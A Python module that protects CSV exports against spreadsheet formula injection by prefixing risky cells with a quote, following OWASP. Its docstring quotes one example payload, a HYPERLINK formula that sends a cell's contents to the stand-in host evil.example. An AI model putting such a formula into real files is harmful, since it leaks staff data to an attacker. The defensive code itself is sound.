"""CSV files staff open in a spreadsheet: no cell may run as a formula.

A district typed as `=HYPERLINK("http://evil.example?"&A1,"click")` by a worker would otherwise
run in Excel or LibreOffice on the caseworker's machine. OWASP's rule: a cell that begins with
= + - @ (or a tab or carriage return, which some spreadsheets skip before reading a formula) is
prefixed with a single quote, which makes it text. Every CSV export writes through here.
"""

import csv
import io
from collections.abc import Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: object) -> object:
    """Numbers pass unchanged (a negative number is data, not a formula); text that could be
    read as a formula gets a leading quote."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_text(rows: Iterable[Iterable[object]]) -> str:
    """The rows as CSV text, every cell neutralised."""
    out = io.StringIO()
    writer = csv.writer(out)
    for row in rows:
        writer.writerow([safe_cell(cell) for cell in row])
    return out.getvalue()
